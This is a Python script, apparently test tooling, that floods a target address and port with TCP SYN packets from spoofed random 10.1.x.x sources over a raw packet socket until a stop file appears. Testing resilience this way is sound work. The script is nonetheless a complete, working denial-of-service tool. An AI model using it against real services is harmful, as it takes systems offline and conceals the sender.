#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""syn_flood — SYNs to a service from sources that do not exist, until a file exists.

usage: syn_flood.py INTERFACE MAC VIP PORT PER_SECOND UNTIL

Frames go out by a packet socket, so only this network sees them. Prints one JSON object: sent, seconds.
"""
import json
import os
import random
import socket
import struct
import sys
import time

interface, mac, vip, port, per_second, until = sys.argv[1:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
ETHER = bytes.fromhex(mac.replace(":", "") + "02aa00009999" + "0800")
VIP = socket.inet_aton(vip)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def syn():
    """Each of another address, port and number."""
    src = bytes([10, 1, random.randrange(1, 200), random.randrange(1, 255)])
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 44, random.getrandbits(16), 0, 64, 6, 0) + src + VIP
    tcp = struct.pack("!HHIIBBHHHI", random.randrange(1024, 65536), int(port), random.getrandbits(32), 0, 0x60, 2, 64240,
                      0, 0, 0x020405b4)
    tcp_sum = checksum(src + VIP + struct.pack("!HH", 6, len(tcp)) + tcp)
    return (ETHER + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp[:16] + struct.pack("!H", tcp_sum)
            + tcp[18:])


start, sent = time.monotonic(), 0
while not os.path.exists(until):
    due = int((time.monotonic() - start) * int(per_second)) - sent
    for _ in range(min(due, 500)):
        out.send(syn())
        sent += 1
    if due < 10:
        time.sleep(0.002)
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 1)}))
